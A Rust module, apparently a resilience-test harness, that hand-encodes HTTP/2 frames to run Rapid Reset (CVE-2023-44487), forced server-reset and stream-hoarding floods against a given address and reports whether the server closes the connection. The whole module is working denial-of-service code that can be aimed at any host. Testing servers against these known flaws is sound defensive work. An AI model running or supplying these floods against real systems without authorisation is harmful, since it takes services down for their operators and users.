//! Floods of HTTP/2 frames (RFC 9113), written by hand: no client of good manners sends them. One volley is one
//! connection.

use std::{
    io::{self, Read, Write},
    net::{Shutdown, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEAD: usize = 9;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// Frames written together.
const TOGETHER: u32 = 32;
/// A server that has enough closes the connection within this time after the last frame.
const CLOSES_WITHIN: Duration = Duration::from_secs(2);
const PATIENCE: Duration = Duration::from_secs(3);

/// What is sent again and again on one connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// A good request, given up at once (CVE-2023-44487).
    RapidResets,
    /// A malformed request, which the server must reset (RUSTSEC-2024-0003).
    ServerResets,
    /// A request that never ends.
    StreamHoard,
}

/// What came of a volley.
#[derive(Debug, Clone, Copy)]
pub struct Struck {
    /// Streams that were opened.
    pub streams: u32,
    /// Whether the server closed the connection.
    pub closed: bool,
}

/// Opens a connection and so many streams on it, or fewer when the server closes it before.
///
/// # Errors
/// When the server cannot be reached.
pub fn strike(address: SocketAddr, path: &str, flood: Flood, streams: u32) -> io::Result<Struck> {
    let mut socket = TcpStream::connect_timeout(&address, PATIENCE)?;
    socket.set_nodelay(true)?;
    socket.set_write_timeout(Some(PATIENCE))?;
    socket.write_all(PREFACE)?;
    socket.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    let mut head = [0; HEAD];
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.read_exact(&mut head)?;
    socket.write_all(&frame(SETTINGS, ACK, 0, &[]))?;

    let closed = Arc::new(AtomicBool::new(false));
    let listener = thread::spawn({
        let (mut answers, closed) = (socket.try_clone()?, closed.clone());
        answers.set_read_timeout(None)?;
        move || {
            let mut buffer = [0; 16 * 1024];
            while answers.read(&mut buffer).is_ok_and(|read| read > 0) {}
            closed.store(true, Ordering::Release);
        }
    });
    let block = block(flood, path, &address.to_string());
    let mut opened = 0;
    while opened < streams && !closed.load(Ordering::Acquire) {
        let mut bytes = Vec::new();
        for stream in opened..(opened + TOGETHER).min(streams) {
            bytes.extend(request(flood, 2 * stream + 1, &block));
        }
        if socket.write_all(&bytes).is_err() {
            break;
        }
        opened = (opened + TOGETHER).min(streams);
    }
    let until = Instant::now() + CLOSES_WITHIN;
    while !closed.load(Ordering::Acquire) && Instant::now() < until {
        thread::sleep(Duration::from_millis(5));
    }
    let struck = Struck {
        streams: opened,
        closed: closed.load(Ordering::Acquire),
    };
    let _ = socket.shutdown(Shutdown::Both);
    let _ = listener.join();
    Ok(struck)
}

fn request(flood: Flood, stream: u32, block: &[u8]) -> Vec<u8> {
    let flags = match flood {
        Flood::StreamHoard => END_HEADERS,
        Flood::RapidResets | Flood::ServerResets => END_HEADERS | END_STREAM,
    };
    let mut bytes = frame(HEADERS, flags, stream, block);
    if flood == Flood::RapidResets {
        bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    }
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = Vec::with_capacity(HEAD + payload.len());
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header block without compression (RFC 7541): every connection may send it first.
fn block(flood: Flood, path: &str, authority: &str) -> Vec<u8> {
    // `:method POST` and `:scheme http` of the static table; `:path` and `:authority` by its names.
    let mut block = vec![0x83, 0x86, 0x04];
    put(&mut block, path);
    block.push(0x01);
    put(&mut block, authority);
    let mut header = |name: &str, value: &str| {
        block.push(0x00);
        put(&mut block, name);
        put(&mut block, value);
    };
    header("content-type", "application/grpc");
    header("te", "trailers");
    if flood == Flood::ServerResets {
        // Forbidden in HTTP/2 (RFC 9113, 8.2.2).
        header("connection", "close");
    }
    block
}

fn put(block: &mut Vec<u8>, text: &str) {
    // Shorter than 127 bytes: the length is one byte.
    block.push(u8::try_from(text.len().min(126)).unwrap_or_default());
    block.extend(text.bytes().take(126));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_flags_and_stream_in_front() {
        let bytes = frame(RST_STREAM, 0, 5, &CANCEL.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn each_flood_sends_what_it_is_named_after() {
        let good = block(Flood::RapidResets, "/a/B", "h");
        assert_eq!(good[..8], [0x83, 0x86, 0x04, 4, b'/', b'a', b'/', b'B']);
        assert!(
            block(Flood::ServerResets, "/a/B", "h").len() > good.len(),
            "one header too many"
        );
        assert!(request(Flood::RapidResets, 1, &good).len() > request(Flood::ServerResets, 1, &good).len());
        assert_eq!(
            request(Flood::StreamHoard, 1, &good)[4] & END_STREAM,
            0,
            "it goes on"
        );
    }
}
